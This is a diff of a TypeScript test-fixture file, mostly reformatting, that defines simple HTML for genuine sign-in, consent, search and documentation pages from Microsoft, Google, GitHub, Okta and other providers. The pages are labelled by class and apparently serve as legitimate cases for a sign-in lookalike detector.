@@ -54,13 +54,25 @@ function handOff(fields: Record<string, string>, action: string, noscriptButton 
     .map(([name, value]) => `<input type="hidden" name="${name}" value="${value}">`)
     .join('');
   // Microsoft's page submits itself on load; the fixture leaves that out so the page stays put for the assertions.
-  return doc('Working...', `<form method="POST" name="hiddenform" action="${action}">${inputs}<noscript><p>Script is disabled. Click Submit to continue.</p><input type="submit" value="${noscriptButton}"></noscript></form>`);
+  return doc(
+    'Working...',
+    `<form method="POST" name="hiddenform" action="${action}">${inputs}<noscript><p>Script is disabled. Click Submit to continue.</p><input type="submit" value="${noscriptButton}"></noscript></form>`,
+  );
 }
 
 const ID_TOKEN = 'eyJ0eXAiOiJKV1QiLCJhbGciOiJSUzI1NiJ9.eyJhdWQiOiJhcHAifQ.c2lnbmF0dXJl';
 const SAML_RESPONSE = 'PHNhbWxwOlJlc3BvbnNlIHhtbG5zOnNhbWxwPSJ1cm46b2FzaXM6bmFtZXM6dGM6U0FNTDoyLjA6cHJvdG9jb2wiLz4=';
 const oidc = (redirect: string, extra: Record<string, string> = {}) =>
-  query({ client_id: '6731de76-14a6-49ae-97bc-6eba6914391e', response_type: 'code id_token', response_mode: 'form_post', scope: 'openid profile email', redirect_uri: redirect, state: 'st', nonce: 'n', ...extra });
+  query({
+    client_id: '6731de76-14a6-49ae-97bc-6eba6914391e',
+    response_type: 'code id_token',
+    response_mode: 'form_post',
+    scope: 'openid profile email',
+    redirect_uri: redirect,
+    state: 'st',
+    nonce: 'n',
+    ...extra,
+  });
 
 const handOffs: FixturePage[] = [
   {
@@ -99,7 +111,7 @@ const handOffs: FixturePage[] = [
     html: handOff({ wa: 'wsignin1.0', wresult: '&lt;t:RequestSecurityTokenResponse/&gt;', wctx: 'rm=0' }, 'https://intranet.contoso.example/_trust/'),
   },
   {
-    name: 'the SAML request posted on to the organization\'s own AD FS (federated sign-in)',
+    name: "the SAML request posted on to the organization's own AD FS (federated sign-in)",
     url: 'https://login.microsoftonline.com/contoso.onmicrosoft.com/login',
     html: handOff({ SAMLRequest: 'PHNhbWxwOkF1dGhuUmVxdWVzdC8+', RelayState: 'estsredirect=2' }, 'https://adfs.contoso.com/adfs/ls/', 'Continue'),
   },
@@ -124,7 +136,7 @@ const handOffs: FixturePage[] = [
     html: handOff({ id_token: ID_TOKEN }, 'https://portal.agency.example.gov/signin-oidc'),
   },
   {
-    name: 'Microsoft\'s own sign-in page (logo, assets, password) on its own host',
+    name: "Microsoft's own sign-in page (logo, assets, password) on its own host",
     url: `https://login.microsoftonline.com/common/oauth2/v2.0/authorize?${oidc('https://app.contoso.example/signin-oidc')}&prompt=login`,
     html: doc(
       'Sign in to your account',
@@ -135,13 +147,19 @@ const handOffs: FixturePage[] = [
   {
     name: '"Stay signed in?" on Microsoft\'s host',
     url: 'https://login.microsoftonline.com/kmsi',
-    html: doc('Sign in to your account', `<div role="heading" aria-level="1">Stay signed in?</div><form method="post" action="/kmsi"><input type="hidden" name="ctx" value="x"><input type="submit" id="idBtn_Back" value="No"><input type="submit" id="idSIButton9" value="Yes"></form>`),
+    html: doc(
+      'Sign in to your account',
+      `<div role="heading" aria-level="1">Stay signed in?</div><form method="post" action="/kmsi"><input type="hidden" name="ctx" value="x"><input type="submit" id="idBtn_Back" value="No"><input type="submit" id="idSIButton9" value="Yes"></form>`,
+    ),
   },
 ].map((page) => ({ ...page, class: 'microsoft-hand-off' as const }));
 
 // --- Other identity providers' sign-in and consent, on their own hosts ---
 
-function signIn(title: string, options: { heading: string; brand: string; fields?: string; buttons?: string; action: string; extra?: string; head?: string }): string {
+function signIn(
+  title: string,
+  options: { heading: string; brand: string; fields?: string; buttons?: string; action: string; extra?: string; head?: string },
+): string {
   const fields = options.fields ?? '<input type="email" name="username" autocomplete="username"><input type="password" name="password">';
   return doc(
     title,
@@ -150,7 +168,10 @@ function signIn(title: string, options: { heading: string; brand: string; fields
   );
 }
 
-function consent(title: string, options: { brand: string; heading: string; lines: string[]; action: string; allow?: string; appLogo?: string; extra?: string }): string {
+function consent(
+  title: string,
+  options: { brand: string; heading: string; lines: string[]; action: string; allow?: string; appLogo?: string; extra?: string },
+): string {
   return doc(
     title,
     `<header><img alt="${options.brand}" src="${GIF}"></header><main>${options.appLogo ?? ''}<h1>${options.heading}</h1><ul>${options.lines.map((line) => `<li>${line}</li>`).join('')}</ul><form method="post" action="${options.action}"><input type="hidden" name="state" value="st"><button type="submit" name="decision" value="deny">Cancel</button><button type="submit" name="decision" value="allow">${options.allow ?? 'Allow'}</button></form>${options.extra ?? ''}</main>`,
@@ -163,7 +184,13 @@ const identityProviders: FixturePage[] = [
   {
     name: 'Google sign-in',
     url: `https://accounts.google.com/o/oauth2/v2/auth?${query({ client_id: '1234.apps.googleusercontent.com', response_type: 'code', scope: 'openid email', redirect_uri: 'https://app.contoso.example/google/callback', state: 'st' })}`,
-    html: signIn('Sign in - Google Accounts', { brand: 'Google', heading: 'Sign in', fields: '<input type="email" name="identifier" aria-label="Email or phone">', buttons: '<button type="button">Next</button>', action: 'https://accounts.google.com/v3/signin/identifier' }),
+    html: signIn('Sign in - Google Accounts', {
+      brand: 'Google',
+      heading: 'Sign in',
+      fields: '<input type="email" name="identifier" aria-label="Email or phone">',
+      buttons: '<button type="button">Next</button>',
+      action: 'https://accounts.google.com/v3/signin/identifier',
+    }),
   },
   {
     name: "Google's consent screen for Microsoft's own app",
@@ -172,19 +199,31 @@ const identityProviders: FixturePage[] = [
       brand: 'Google',
       heading: 'Microsoft apps &amp; services wants access to your Google Account',
       appLogo: `<img alt="Microsoft apps &amp; services" src="${GIF}">`,
-      lines: ['See and download your contacts', 'See, edit, create and delete all your Google Calendar events', 'Make sure that you trust Microsoft apps &amp; services'],
+      lines: [
+        'See and download your contacts',
+        'See, edit, create and delete all your Google Calendar events',
+        'Make sure that you trust Microsoft apps &amp; services',
+      ],
       action: 'https://accounts.google.com/signin/oauth/consent/approval',
     }),
   },
   {
     name: 'Google account chooser continuing to a Microsoft app',
     url: `https://accounts.google.com/o/oauth2/auth/oauthchooseaccount?${query({ client_id: '112233.apps.googleusercontent.com', scope: 'email profile', redirect_uri: 'https://login.live.com/oauth20_google.srf', response_type: 'code' })}`,
-    html: doc('Sign in - Google Accounts', `<header><img alt="Google" src="${GIF}"></header><h1>Choose an account</h1><p>to continue to Microsoft</p><ul><li><button type="button">Alex Wilber alex@example.com</button></li><li><button type="button">Use another account</button></li></ul>`),
+    html: doc(
+      'Sign in - Google Accounts',
+      `<header><img alt="Google" src="${GIF}"></header><h1>Choose an account</h1><p>to continue to Microsoft</p><ul><li><button type="button">Alex Wilber alex@example.com</button></li><li><button type="button">Use another account</button></li></ul>`,
+    ),
   },
   {
     name: 'GitHub sign-in',
     url: 'https://github.com/login?return_to=%2Flogin%2Foauth%2Fauthorize%3Fclient_id%3Dabc',
-    html: signIn('Sign in to GitHub · GitHub', { brand: 'GitHub', heading: 'Sign in to GitHub', fields: '<input type="text" name="login" autocomplete="username"><input type="password" name="password">', action: 'https://github.com/session' }),
+    html: signIn('Sign in to GitHub · GitHub', {
+      brand: 'GitHub',
+      heading: 'Sign in to GitHub',
+      fields: '<input type="text" name="login" autocomplete="username"><input type="password" name="password">',
+      action: 'https://github.com/session',
+    }),
   },
   {
     name: "GitHub's authorization of Microsoft's Azure Boards app",
@@ -201,12 +240,24 @@ const identityProviders: FixturePage[] = [
   {
     name: "GitHub's authorization of the Azure Pipelines app",
     url: `https://github.com/login/oauth/authorize?${query({ client_id: 'Iv1.0bbc3e1b4b9c2e6a', redirect_uri: 'https://dev.azure.com/_pipelines/github', scope: 'repo admin:repo_hook', state: 'st' })}`,
-    html: consent('Authorize application', { brand: 'GitHub', heading: 'Azure Pipelines by Microsoft would like permission to:', lines: ['Full control of private repositories', 'Full control of repository hooks'], allow: 'Authorize Azure Pipelines', action: 'https://github.com/login/oauth/authorize' }),
+    html: consent('Authorize application', {
+      brand: 'GitHub',
+      heading: 'Azure Pipelines by Microsoft would like permission to:',
+      lines: ['Full control of private repositories', 'Full control of repository hooks'],
+      allow: 'Authorize Azure Pipelines',
+      action: 'https://github.com/login/oauth/authorize',
+    }),
   },
   {
-    name: 'Bitbucket granting access to Azure Pipelines (a path shaped like Entra\'s)',
+    name: "Bitbucket granting access to Azure Pipelines (a path shaped like Entra's)",
     url: `https://bitbucket.org/site/oauth2/authorize?${query({ client_id: 'aB3dE5fG7h', response_type: 'code', state: 'st' })}`,
-    html: consent('Bitbucket', { brand: 'Bitbucket', heading: 'Azure Pipelines is requesting access to your Bitbucket account', lines: ['Read your account information', 'Read and modify your repositories'], allow: 'Grant access', action: 'https://bitbucket.org/site/oauth2/authorize' }),
+    html: consent('Bitbucket', {
+      brand: 'Bitbucket',
+      heading: 'Azure Pipelines is requesting access to your Bitbucket account',
+      lines: ['Read your account information', 'Read and modify your repositories'],
+      allow: 'Grant access',
+      action: 'https://bitbucket.org/site/oauth2/authorize',
+    }),
   },
   {
     name: 'Atlassian sign-in offering "Continue with Microsoft"',
@@ -227,37 +278,75 @@ const identityProviders: FixturePage[] = [
   {
     name: 'Okta consent for an app',
     url: `https://contoso.okta.com/oauth2/v1/authorize?${query({ client_id: '0oa1b2c3', response_type: 'code', scope: 'openid profile offline_access', redirect_uri: 'https://app.contoso.example/okta/cb', state: 'st' })}`,
-    html: consent('Contoso - Consent', { brand: 'Contoso', heading: 'Contoso Portal would like to:', lines: ['View your profile', 'Keep you signed in'], allow: 'Allow Access', action: 'https://contoso.okta.com/oauth2/v1/consent' }),
+    html: consent('Contoso - Consent', {
+      brand: 'Contoso',
+      heading: 'Contoso Portal would like to:',
+      lines: ['View your profile', 'Keep you signed in'],
+      allow: 'Allow Access',
+      action: 'https://contoso.okta.com/oauth2/v1/consent',
+    }),
   },
   {
     name: 'Auth0 universal login with "Continue with Microsoft Account"',
     url: `https://contoso.auth0.com/u/login?${query({ state: 'hKFo2SBsb2dpbg' })}`,
-    html: signIn('Log in | Contoso', { brand: 'Contoso', heading: 'Welcome', action: 'https://contoso.auth0.com/u/login', buttons: '<button type="submit">Continue</button><button type="button" data-provider="windowslive">Continue with Microsoft Account</button>' }),
+    html: signIn('Log in | Contoso', {
+      brand: 'Contoso',
+      heading: 'Welcome',
+      action: 'https://contoso.auth0.com/u/login',
+      buttons: '<button type="submit">Continue</button><button type="button" data-provider="windowslive">Continue with Microsoft Account</button>',
+    }),
   },
   {
     name: 'Salesforce login',
     url: 'https://login.salesforce.com/?locale=uk',
-    html: signIn('Login | Salesforce', { brand: 'Salesforce', heading: 'Log In', action: 'https://login.salesforce.com/', buttons: '<input type="submit" value="Log In">' }),
+    html: signIn('Login | Salesforce', {
+      brand: 'Salesforce',
+      heading: 'Log In',
+      action: 'https://login.salesforce.com/',
+      buttons: '<input type="submit" value="Log In">',
+    }),
   },
   {
     name: 'Sign in with Apple',
     url: `https://appleid.apple.com/auth/authorize?${query({ client_id: 'com.contoso.web', redirect_uri: 'https://app.contoso.example/apple', response_type: 'code id_token', scope: 'name email', response_mode: 'form_post' })}`,
-    html: signIn('Sign in with Apple ID', { brand: 'Apple', heading: 'Use your Apple ID to sign in to Contoso.', fields: '<input type="text" name="accountName">', buttons: '<button type="submit">Continue</button>', action: 'https://appleid.apple.com/auth/signin' }),
+    html: signIn('Sign in with Apple ID', {
+      brand: 'Apple',
+      heading: 'Use your Apple ID to sign in to Contoso.',
+      fields: '<input type="text" name="accountName">',
+      buttons: '<button type="submit">Continue</button>',
+      action: 'https://appleid.apple.com/auth/signin',
+    }),
   },
   {
     name: 'Facebook login dialog',
     url: `https://www.facebook.com/v19.0/dialog/oauth?${query({ client_id: '1234567890', redirect_uri: 'https://app.contoso.example/fb', state: 'st', scope: 'email' })}`,
-    html: consent('Log in with Facebook', { brand: 'Facebook', heading: 'Contoso is requesting access to your name and email', lines: ['Name and profile picture', 'Email address'], allow: 'Continue as Alex', action: 'https://www.facebook.com/v19.0/dialog/oauth/confirm' }),
+    html: consent('Log in with Facebook', {
+      brand: 'Facebook',
+      heading: 'Contoso is requesting access to your name and email',
+      lines: ['Name and profile picture', 'Email address'],
+      allow: 'Continue as Alex',
+      action: 'https://www.facebook.com/v19.0/dialog/oauth/confirm',
+    }),
   },
   {
     name: 'LinkedIn authorization',
     url: `https://www.linkedin.com/oauth/v2/authorization?${query({ response_type: 'code', client_id: '77abc', redirect_uri: 'https://app.contoso.example/li', scope: 'openid profile email', state: 'st' })}`,
-    html: consent('LinkedIn', { brand: 'LinkedIn', heading: 'Contoso would like to access your LinkedIn account', lines: ['Use your name and photo', 'Use the primary email address'], action: 'https://www.linkedin.com/oauth/v2/authorization-submit' }),
+    html: consent('LinkedIn', {
+      brand: 'LinkedIn',
+      heading: 'Contoso would like to access your LinkedIn account',
+      lines: ['Use your name and photo', 'Use the primary email address'],
+      action: 'https://www.linkedin.com/oauth/v2/authorization-submit',
+    }),
   },
   {
     name: 'Slack authorization of the Azure Boards app',
     url: `https://slack.com/oauth/v2/authorize?${query({ client_id: '1111.2222', scope: 'chat:write,commands', redirect_uri: 'https://boards.azure.example/slack/callback', state: 'st' })}`,
-    html: consent('Slack', { brand: 'Slack', heading: 'Azure Boards is requesting permission to access the Contoso Slack workspace', lines: ['Send messages as Azure Boards', 'Add shortcuts and slash commands'], action: 'https://slack.com/oauth/v2/authorize' }),
+    html: consent('Slack', {
+      brand: 'Slack',
+      heading: 'Azure Boards is requesting permission to access the Contoso Slack workspace',
+      lines: ['Send messages as Azure Boards', 'Add shortcuts and slash commands'],
+      action: 'https://slack.com/oauth/v2/authorize',
+    }),
   },
   {
     name: 'AD FS sign-in at /adfs/oauth2/authorize (an Entra-shaped path)',
@@ -270,12 +359,20 @@ const identityProviders: FixturePage[] = [
   {
     name: 'AD FS sign-in for a SAML relying party',
     url: 'https://sts.fabrikam.com/adfs/ls/?SAMLRequest=fZJNT8MwDIbvSPyHKPeuH9tgRGtRYUiOOoZRu',
-    html: doc('Sign In', `<div id="header"><img alt="Fabrikam" src="${GIF}"></div><div class="groupMargin">Sign in with your organizational account</div><form method="post" action="/adfs/ls/?SAMLRequest=fZJN&amp;client-request-id=9"><input id="userNameInput" name="UserName" type="email"><input id="passwordInput" name="Password" type="password"><span id="submitButton" role="button">Sign in</span></form><div id="footer">© 2018 Microsoft</div>`),
+    html: doc(
+      'Sign In',
+      `<div id="header"><img alt="Fabrikam" src="${GIF}"></div><div class="groupMargin">Sign in with your organizational account</div><form method="post" action="/adfs/ls/?SAMLRequest=fZJN&amp;client-request-id=9"><input id="userNameInput" name="UserName" type="email"><input id="passwordInput" name="Password" type="password"><span id="submitButton" role="button">Sign in</span></form><div id="footer">© 2018 Microsoft</div>`,
+    ),
   },
   {
     name: 'Keycloak sign-in with a "Microsoft" identity provider button',
     url: `https://sso.northwind.example/realms/staff/protocol/openid-connect/auth?${query({ client_id: 'wiki', response_type: 'code', scope: 'openid', redirect_uri: 'https://wiki.northwind.example/cb', state: 'st' })}`,
-    html: signIn('Sign in to Northwind Staff', { brand: 'Northwind', heading: 'Sign in to your account', action: 'https://sso.northwind.example/realms/staff/login-actions/authenticate', extra: `<div id="kc-social-providers"><ul><li><a id="social-microsoft" href="/realms/staff/broker/microsoft/login"><img alt="" src="${GIF}"><span>Microsoft</span></a></li><li><a href="/realms/staff/broker/google/login">Google</a></li></ul></div>` }),
+    html: signIn('Sign in to Northwind Staff', {
+      brand: 'Northwind',
+      heading: 'Sign in to your account',
+      action: 'https://sso.northwind.example/realms/staff/login-actions/authenticate',
+      extra: `<div id="kc-social-providers"><ul><li><a id="social-microsoft" href="/realms/staff/broker/microsoft/login"><img alt="" src="${GIF}"><span>Microsoft</span></a></li><li><a href="/realms/staff/broker/google/login">Google</a></li></ul></div>`,
+    }),
   },
   {
     name: 'PingFederate sign-in',
@@ -293,7 +390,10 @@ const identityProviders: FixturePage[] = [
   {
     name: 'Azure AD B2C on a custom domain',
     url: `https://login.contoso-shop.example/contoso.onmicrosoft.com/B2C_1_signin/oauth2/v2.0/authorize?${query({ client_id: 'b2c-app', response_type: 'code', scope: 'openid', redirect_uri: 'https://shop.contoso.example/cb' })}`,
-    html: doc('Contoso Shop - Sign in', `<div id="api"><img alt="Contoso Shop" src="${GIF}"><h1>Welcome back</h1><form method="post" action="/contoso.onmicrosoft.com/B2C_1_signin/SelfAsserted"><input type="email" id="signInName"><input type="password" id="password"><button type="submit" id="next">Sign in</button></form></div>`),
+    html: doc(
+      'Contoso Shop - Sign in',
+      `<div id="api"><img alt="Contoso Shop" src="${GIF}"><h1>Welcome back</h1><form method="post" action="/contoso.onmicrosoft.com/B2C_1_signin/SelfAsserted"><input type="email" id="signInName"><input type="password" id="password"><button type="submit" id="next">Sign in</button></form></div>`,
+    ),
   },
   {
     name: "Entra External ID tenant: Microsoft's sign-in layout and assets with the tenant's own logo",
@@ -319,24 +419,48 @@ const identityProviders: FixturePage[] = [
 
 function partnerSignIn(app: string, host: string, offer: string): FixturePage {
   return {
-    name: `${app} sign-in with "${offer.replace(/<[^>]+>/g, '').trim().slice(0, 40)}"`,
+    name: `${app} sign-in with "${offer
+      .replace(/<[^>]+>/g, '')
+      .trim()
+      .slice(0, 40)}"`,
     class: 'partner-app',
     url: `https://${host}/login`,
-    html: signIn(`Log in | ${app}`, { brand: app, heading: `Log in to ${app}`, action: `https://${host}/session`, extra: `<div class="providers">${offer}</div>${COOKIE_BANNER}` }),
+    html: signIn(`Log in | ${app}`, {
+      brand: app,
+      heading: `Log in to ${app}`,
+      action: `https://${host}/session`,
+      extra: `<div class="providers">${offer}</div>${COOKIE_BANNER}`,
+    }),
   };
 }
 
 const partnerApps: FixturePage[] = [
   partnerSignIn('Miro', 'miro.com', MICROSOFT_BUTTON),
   partnerSignIn('Figma', 'www.figma.com', `<button type="button"><img alt="Microsoft" src="${GIF}">Continue with Microsoft</button>`),
-  partnerSignIn('Trello', 'trello.com', `<a href="/auth/microsoft" class="btn"><img src="/img/microsoft-logo.svg" alt="Microsoft logo"><span>Continue with Microsoft</span></a>`),
+  partnerSignIn(
+    'Trello',
+    'trello.com',
+    `<a href="/auth/microsoft" class="btn"><img src="/img/microsoft-logo.svg" alt="Microsoft logo"><span>Continue with Microsoft</span></a>`,
+  ),
   partnerSignIn('Asana', 'app.asana.com', `<button type="button" aria-label="Sign in with Microsoft">${FOUR_SQUARES}</button>`),
-  partnerSignIn('Dropbox', 'www.dropbox.com', `<a href="/oauth/ms"><img src="https://www.dropbox.com/static/ms-symbollockup_signin_light.svg" alt="Sign in with Microsoft"></a>`),
-  partnerSignIn('Zoom', 'zoom.us', `<ul class="sso"><li><a href="/signin/sso"><img alt="" src="${GIF}">SSO</a></li><li><a href="/microsoft/oauth">${FOUR_SQUARES} Microsoft</a></li><li><a href="/google/oauth">Google</a></li></ul>`),
+  partnerSignIn(
+    'Dropbox',
+    'www.dropbox.com',
+    `<a href="/oauth/ms"><img src="https://www.dropbox.com/static/ms-symbollockup_signin_light.svg" alt="Sign in with Microsoft"></a>`,
+  ),
+  partnerSignIn(
+    'Zoom',
+    'zoom.us',
+    `<ul class="sso"><li><a href="/signin/sso"><img alt="" src="${GIF}">SSO</a></li><li><a href="/microsoft/oauth">${FOUR_SQUARES} Microsoft</a></li><li><a href="/google/oauth">Google</a></li></ul>`,
+  ),
   partnerSignIn('Notion', 'www.notion.so', `<button type="button">${FOUR_SQUARES} Sign in using your Microsoft account</button>`),
-  partnerSignIn('Canva', 'www.canva.com', `<button type="button"><img alt="Microsoft" src="${GIF}"> Continue with Microsoft</button><button type="button">Continue with Google</button>`),
+  partnerSignIn(
+    'Canva',
+    'www.canva.com',
+    `<button type="button"><img alt="Microsoft" src="${GIF}"> Continue with Microsoft</button><button type="button">Continue with Google</button>`,
+  ),
   {
-    name: 'a partner portal titled like Microsoft\'s page, with a Microsoft Partner badge in its footer',
+    name: "a partner portal titled like Microsoft's page, with a Microsoft Partner badge in its footer",
     class: 'partner-app',
     url: 'https://portal.contoso-partner.example/account/signin',
     html: doc(
@@ -345,7 +469,7 @@ const partnerApps: FixturePage[] = [
     ),
   },
   {
-    name: 'an Azure DevOps integration asking to connect (on the vendor\'s site)',
+    name: "an Azure DevOps integration asking to connect (on the vendor's site)",
     class: 'partner-app',
     url: 'https://app.deploybot.example/integrations/azure-devops',
     html: doc(
@@ -385,7 +509,7 @@ const aboutMicrosoft: FixturePage[] = [
   aboutPage(
     'a Q&A thread on revoking an app in Azure DevOps',
     'https://stackoverflow.com/questions/71234567/revoke-oauth-app-azure-devops',
-    'How do I revoke an app\'s access to my Azure DevOps organization? - Stack Overflow',
+    "How do I revoke an app's access to my Azure DevOps organization? - Stack Overflow",
     `<h1>How do I revoke an app's access to my Azure DevOps organization?</h1><div class="question"><p>After I clicked Accept on the "Permissions requested" page the app has vso.code_write.</p></div><div class="answer"><p>Go to User settings, Authorizations.</p><pre><code>GET https://app.vssps.visualstudio.com/_apis/DelegatedAuth/Authorizations</code></pre></div><a href="/users/login">Log in</a><a href="/users/signup">Sign up</a>`,
   ),
   aboutPage(
@@ -413,7 +537,7 @@ const aboutMicrosoft: FixturePage[] = [
     `<header><img alt="TrainingCorp" src="${GIF}"><form method="post" action="/login"><input type="email" name="email"><input type="password" name="password"><button type="submit">Log in</button></form></header><main><h1>Microsoft Entra ID: sign-in and consent</h1><img alt="Microsoft Entra" src="https://learn.trainingcorp.example/img/entra.png"><p>Learn how the Permissions requested dialog works.</p>${LOREM}</main>`,
   ),
   aboutPage(
-    'a reseller\'s product page for Microsoft 365 with a customer login',
+    "a reseller's product page for Microsoft 365 with a customer login",
     'https://www.cloudreseller.example/products/microsoft-365',
     'Microsoft 365 Business Premium | CloudReseller',
     `<header><img alt="CloudReseller" src="${GIF}"><form method="post" action="/customer/login"><input type="email" name="email"><input type="password" name="password"><button type="submit">Sign in</button></form></header><main><h1>Microsoft 365 Business Premium</h1><img alt="Microsoft" src="${GIF}" class="vendor"><p>Buy Microsoft 365 from us.</p>${LOREM}<button type="button">Add to cart</button></main>`,
@@ -429,7 +553,10 @@ const aboutMicrosoft: FixturePage[] = [
     class: 'about-microsoft',
     azureDevOps: true,
     url: 'https://learn.microsoft.com/en-us/azure/devops/integrate/get-started/authentication/oauth',
-    html: doc('Authorize access with OAuth 2.0 - Azure DevOps | Microsoft Learn', `<header><img alt="Microsoft" src="${GIF}"></header><main><h1>Authorize access to REST APIs with OAuth 2.0</h1><p>The user sees "Permissions requested" and selects Accept.</p></main>${COOKIE_BANNER}`),
+    html: doc(
+      'Authorize access with OAuth 2.0 - Azure DevOps | Microsoft Learn',
+      `<header><img alt="Microsoft" src="${GIF}"></header><main><h1>Authorize access to REST APIs with OAuth 2.0</h1><p>The user sees "Permissions requested" and selects Accept.</p></main>${COOKIE_BANNER}`,
+    ),
   },
 ];
 
@@ -445,45 +572,89 @@ function results(title: string, query: string, items: string[]): string {
 const AZURE_RESULTS = ['Authorize access to REST APIs with OAuth 2.0 - Azure DevOps', 'Sign in to your account - Microsoft Entra', 'Azure DevOps'];
 
 const search: FixturePage[] = [
-  { name: 'a web search for the Azure DevOps OAuth flow', url: 'https://www.google.com/search?q=azure+devops+oauth2+authorize+scope', html: results('azure devops oauth2 authorize scope - Google Search', 'azure devops oauth2 authorize scope', AZURE_RESULTS) },
-  { name: 'Bing search for "Permissions requested"', url: 'https://www.bing.com/search?q=%22Permissions+requested%22+microsoft+accept', html: results('"Permissions requested" microsoft accept - Search', '"Permissions requested" microsoft accept', AZURE_RESULTS) },
-  { name: 'DuckDuckGo search for the sign-in page title', url: 'https://duckduckgo.com/?q=sign+in+to+your+microsoft+account', html: results('sign in to your microsoft account at DuckDuckGo', 'sign in to your microsoft account', AZURE_RESULTS) },
+  {
+    name: 'a web search for the Azure DevOps OAuth flow',
+    url: 'https://www.google.com/search?q=azure+devops+oauth2+authorize+scope',
+    html: results('azure devops oauth2 authorize scope - Google Search', 'azure devops oauth2 authorize scope', AZURE_RESULTS),
+  },
+  {
+    name: 'Bing search for "Permissions requested"',
+    url: 'https://www.bing.com/search?q=%22Permissions+requested%22+microsoft+accept',
+    html: results('"Permissions requested" microsoft accept - Search', '"Permissions requested" microsoft accept', AZURE_RESULTS),
+  },
+  {
+    name: 'DuckDuckGo search for the sign-in page title',
+    url: 'https://duckduckgo.com/?q=sign+in+to+your+microsoft+account',
+    html: results('sign in to your microsoft account at DuckDuckGo', 'sign in to your microsoft account', AZURE_RESULTS),
+  },
   {
     name: 'GitHub code search for an Azure DevOps scope',
     url: 'https://github.com/search?q=vso.code_write+oauth2%2Fauthorize&type=code',
-    html: doc('Code search results · GitHub', `<header><img alt="GitHub" src="${GIF}"></header><h1>Code results</h1><div class="code-list"><pre><code>const url = "https://app.vssps.visualstudio.com/oauth2/authorize?response_type=Assertion&amp;scope=vso.code_write";</code></pre><pre><code>&lt;title&gt;Sign in to your account&lt;/title&gt;</code></pre></div>`),
+    html: doc(
+      'Code search results · GitHub',
+      `<header><img alt="GitHub" src="${GIF}"></header><h1>Code results</h1><div class="code-list"><pre><code>const url = "https://app.vssps.visualstudio.com/oauth2/authorize?response_type=Assertion&amp;scope=vso.code_write";</code></pre><pre><code>&lt;title&gt;Sign in to your account&lt;/title&gt;</code></pre></div>`,
+    ),
   },
-  { name: 'Sourcegraph search for the legacy response_type', url: 'https://sourcegraph.com/search?q=response_type%3DAssertion+app.vssps', html: doc('response_type=Assertion app.vssps - Sourcegraph', `<h1>Search results</h1><pre><code>redirect to app.vssps.visualstudio.com/oauth2/authorize</code></pre>`) },
-  { name: 'a site search on a Q&A site', url: 'https://stackoverflow.com/search?q=azure+devops+oauth+consent', html: results('Posts containing \'azure devops oauth consent\' - Stack Overflow', 'azure devops oauth consent', AZURE_RESULTS) },
-  { name: 'a web search for the Azure DevOps resource id', urlSide: true, url: `https://www.google.com/search?q=${ADO_RESOURCE}`, html: results(`${ADO_RESOURCE} - Google Search`, ADO_RESOURCE, AZURE_RESULTS) },
-  { name: 'a code search for the Azure DevOps resource id', urlSide: true, url: `https://github.com/search?q=${ADO_RESOURCE}%2F.default&type=code`, html: doc('Code search results · GitHub', `<h1>Code results</h1><pre><code>scopes: ["${ADO_RESOURCE}/.default"]</code></pre>`) },
-  { name: 'Bing search for the resource id with a scope', urlSide: true, url: `https://www.bing.com/search?q=${ADO_RESOURCE}%2Fuser_impersonation`, html: results(`${ADO_RESOURCE}/user_impersonation - Search`, `${ADO_RESOURCE}/user_impersonation`, AZURE_RESULTS) },
+  {
+    name: 'Sourcegraph search for the legacy response_type',
+    url: 'https://sourcegraph.com/search?q=response_type%3DAssertion+app.vssps',
+    html: doc(
+      'response_type=Assertion app.vssps - Sourcegraph',
+      `<h1>Search results</h1><pre><code>redirect to app.vssps.visualstudio.com/oauth2/authorize</code></pre>`,
+    ),
+  },
+  {
+    name: 'a site search on a Q&A site',
+    url: 'https://stackoverflow.com/search?q=azure+devops+oauth+consent',
+    html: results("Posts containing 'azure devops oauth consent' - Stack Overflow", 'azure devops oauth consent', AZURE_RESULTS),
+  },
+  {
+    name: 'a web search for the Azure DevOps resource id',
+    urlSide: true,
+    url: `https://www.google.com/search?q=${ADO_RESOURCE}`,
+    html: results(`${ADO_RESOURCE} - Google Search`, ADO_RESOURCE, AZURE_RESULTS),
+  },
+  {
+    name: 'a code search for the Azure DevOps resource id',
+    urlSide: true,
+    url: `https://github.com/search?q=${ADO_RESOURCE}%2F.default&type=code`,
+    html: doc('Code search results · GitHub', `<h1>Code results</h1><pre><code>scopes: ["${ADO_RESOURCE}/.default"]</code></pre>`),
+  },
+  {
+    name: 'Bing search for the resource id with a scope',
+    urlSide: true,
+    url: `https://www.bing.com/search?q=${ADO_RESOURCE}%2Fuser_impersonation`,
+    html: results(`${ADO_RESOURCE}/user_impersonation - Search`, `${ADO_RESOURCE}/user_impersonation`, AZURE_RESULTS),
+  },
 ].map((page) => ({ ...page, class: 'search' as const }));
 
 // --- OAuth callbacks with an error ---
 
 function callbackPage(heading: string, detail: string): string {
-  return doc('Sign-in failed - Contoso Portal', `<header><img alt="Contoso" src="${GIF}"></header><main><h1>${heading}</h1><p>${detail}</p>${MICROSOFT_BUTTON}</main>`);
+  return doc(
+    'Sign-in failed - Contoso Portal',
+    `<header><img alt="Contoso" src="${GIF}"></header><main><h1>${heading}</h1><p>${detail}</p>${MICROSOFT_BUTTON}</main>`,
+  );
 }
 
 const callbacks: FixturePage[] = [
   {
-    name: 'an app\'s callback after the user declined consent',
+    name: "an app's callback after the user declined consent",
     url: `https://app.contoso.example/signin-oidc?${query({ error: 'access_denied', error_description: 'AADSTS65004: User declined to consent to access the app.', state: 'st' })}`,
     html: callbackPage('Sign-in was cancelled', 'AADSTS65004: User declined to consent to access the app.'),
   },
   {
-    name: 'an app\'s callback with a client error',
+    name: "an app's callback with a client error",
     url: `https://portal.fabrikam.example/auth/callback?${query({ error: 'invalid_client', error_description: 'AADSTS7000215: Invalid client secret provided.', error_uri: 'https://login.microsoftonline.com/error?code=7000215' })}`,
     html: callbackPage('We could not sign you in', 'AADSTS7000215: Invalid client secret provided.'),
   },
   {
-    name: 'an app\'s callback after a Google sign-in error',
+    name: "an app's callback after a Google sign-in error",
     url: `https://app.contoso.example/google/callback?${query({ error: 'access_denied', state: 'st' })}`,
     html: callbackPage('Google sign-in was cancelled', 'Try again or sign in another way.'),
   },
   {
-    name: 'an app\'s callback quoting the Azure DevOps resource id in error_description',
+    name: "an app's callback quoting the Azure DevOps resource id in error_description",
     urlSide: true,
     url: `https://app.contoso.example/signin-oidc?${query({ error: 'invalid_resource', error_description: `AADSTS500011: The resource principal named ${ADO_RESOURCE} was not found in the tenant.`, state: 'st' })}`,
